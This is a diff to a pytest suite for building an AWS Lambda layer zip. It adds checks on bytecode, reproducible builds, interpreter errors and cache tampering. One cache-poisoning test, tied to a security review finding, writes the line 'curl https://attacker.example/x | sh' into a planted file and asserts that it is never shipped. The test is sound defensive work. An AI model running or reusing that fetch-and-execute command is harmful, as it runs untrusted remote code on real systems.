@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import importlib.util
 import os
 import re
 import subprocess
@@ -15,7 +16,8 @@ from pathlib import Path, PurePosixPath
 import pytest
 from infra_helpers import ROOT, Assembly, sources_edited_since
 
-from dynalease.cdk.build import SIZE_BUDGET_BYTES, LayerBuild, build_layer
+from dynalease.cdk._bytecode import find_interpreter
+from dynalease.cdk.build import SIZE_BUDGET_BYTES, LayerBuild, LayerBuildError, build_layer
 
 RUNTIME_SHIPPED = {"boto3", "botocore", "s3transfer", "jmespath", "urllib3", "dateutil", "six"}
 
@@ -76,13 +78,101 @@ def test_the_layer_leaves_out_what_the_lambda_runtime_ships(full: LayerBuild) ->
     assert not [n for n in names if n.split("/")[1].lower().startswith(("boto", "botocore"))]
 
 
-def test_the_layer_leaves_out_build_time_code_caches_and_compiled_files(
+def test_the_layer_leaves_out_build_time_code_and_compiled_extensions(
     full: LayerBuild,
 ) -> None:
     names = zipfile.ZipFile(full.zip_path).namelist()
     assert not [n for n in names if n.startswith("python/dynalease/cdk/")]
-    assert not [n for n in names if "__pycache__" in n or n.endswith((".pyc", ".so", ".pth"))]
+    assert not [n for n in names if n.endswith((".so", ".pth", ".pyo"))]
     assert not [n for n in names if n.endswith(("direct_url.json", "INSTALLER"))]
+
+
+def _needs_python(version: str) -> None:
+    """Skip without an interpreter of ``version``, except under CI, where it must be there."""
+    try:
+        find_interpreter(version)
+    except LookupError as error:
+        if os.environ.get("CI") == "true":
+            pytest.fail(f"CI must provide Python {version}: {error}")
+        pytest.skip(str(error))
+
+
+def _bytecode_for_every_module(names: list[str], tag: str) -> None:
+    sources = [PurePosixPath(n) for n in names if n.endswith(".py")]
+    expected = {str(p.parent / "__pycache__" / f"{p.stem}.{tag}.pyc") for p in sources}
+    compiled = {n for n in names if n.endswith(".pyc")}
+    assert len(sources) > 300
+    assert compiled == expected  # one for every .py, nothing else
+    assert not [n for n in names if "__pycache__" in n and not n.endswith(f".{tag}.pyc")]
+
+
+def test_the_layer_carries_unchecked_hash_bytecode_for_every_module(full: LayerBuild) -> None:
+    tag = f"cpython-{sys.version_info[0]}{sys.version_info[1]}"
+    with zipfile.ZipFile(full.zip_path) as archive:
+        names = archive.namelist()
+        _bytecode_for_every_module(names, tag)
+        pyc = archive.read(f"python/dynalease/__pycache__/middleware.{tag}.pyc")
+    assert full.bytecode_files == len([n for n in names if n.endswith(".pyc")])
+    assert pyc[:4] == importlib.util.MAGIC_NUMBER
+    assert int.from_bytes(pyc[4:8], "little") == 0b01  # hash-based, unchecked (PEP 552)
+
+
+def test_the_313_zip_holds_cpython_313_bytecode_for_every_module_and_builds_twice_alike(
+    tmp_path: Path,
+) -> None:
+    _needs_python("3.13")
+    runs = [(tmp_path / f"{n}.zip", tmp_path / f"cache-{n}", ("--python", "3.13")) for n in "ab"]
+    first, second = _run_builds(*runs)
+    assert first[0] == 0, first[2]
+    assert second[0] == 0, second[2]
+    a, b = (tmp_path / "a.zip").read_bytes(), (tmp_path / "b.zip").read_bytes()
+    assert hashlib.sha256(a).hexdigest() == hashlib.sha256(b).hexdigest()
+    assert "for the python3.13 runtime" in first[1]
+    names = zipfile.ZipFile(tmp_path / "a.zip").namelist()
+    _bytecode_for_every_module(names, "cpython-313")
+
+
+def test_a_zip_planted_in_the_cache_under_the_expected_name_is_never_shipped(
+    tmp_path: Path,
+) -> None:
+    """Security review finding 15: the cache was trusted by file name alone."""
+    cache = tmp_path / "cache"
+    first = build_layer(include_powertools=False, cache_dir=cache)
+    genuine = first.zip_path.read_bytes()
+    with zipfile.ZipFile(first.zip_path) as archive:
+        members = [(info, archive.read(info)) for info in archive.infolist()]
+    with zipfile.ZipFile(first.zip_path, "w") as planted:
+        for info, content in members:
+            if info.filename == "extensions/dynalease-recovery":
+                content = b"#!/bin/sh\ncurl https://attacker.example/x | sh\n"
+            planted.writestr(info, content)
+    assert first.zip_path.read_bytes() != genuine
+
+    again = build_layer(include_powertools=False, cache_dir=cache)
+    shipped = again.zip_path.read_bytes()
+    assert b"attacker.example" not in shipped
+    assert shipped == genuine
+    assert again.sha256 == first.sha256 == hashlib.sha256(shipped).hexdigest()
+
+
+def test_a_missing_interpreter_fails_naming_the_version_and_how_to_provide_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    other = "3.12" if sys.version_info[:2] != (3, 12) else "3.13"
+    monkeypatch.setenv("PATH", str(tmp_path))
+    monkeypatch.setenv("PYENV_ROOT", str(tmp_path / "no-pyenv"))
+    monkeypatch.delenv(f"DYNALEASE_PYTHON_{other.replace('.', '_')}", raising=False)
+    with pytest.raises(LayerBuildError) as caught:
+        build_layer(python=other, cache_dir=tmp_path)
+    message = str(caught.value)
+    assert f"no Python {other} interpreter" in message
+    assert f"DYNALEASE_PYTHON_{other.replace('.', '_')}" in message
+    assert "pyenv install" in message
+    monkeypatch.setenv(f"DYNALEASE_PYTHON_{other.replace('.', '_')}", sys.executable)
+    with pytest.raises(LayerBuildError, match=rf"is Python 3\.\d+, not Python {other}"):
+        build_layer(python=other, cache_dir=tmp_path)
+    with pytest.raises(ValueError, match=r"3\.11 or newer"):
+        build_layer(python="3.10", cache_dir=tmp_path)
 
 
 def test_the_layer_holds_only_the_runtime_library_of_dynalease(full: LayerBuild) -> None:
@@ -211,7 +301,9 @@ def test_the_size_table_in_docs_cdk_is_this_build(full: LayerBuild, tmp_path: Pa
         versions["aws-lambda-powertools"],
         versions["typing-extensions"],
     )
-    for label, build in (("with Powertools (default)", full), ("`--no-powertools`", slim)):
+    python = f"python{full.python}"
+    rows = ((f"{python} with Powertools", full), (f"{python} `--no-powertools`", slim))
+    for label, build in rows:
         row = re.search(rf"\| {re.escape(label)} \| (\d+) \| ([\d.]+) MiB \| ([\d.]+) MiB \|", text)
         assert row, f"docs/cdk.md has no size row for {label}"
         # Files are exact; sizes differ by a few KB between checkouts (0.33 vs 0.34 MiB seen).
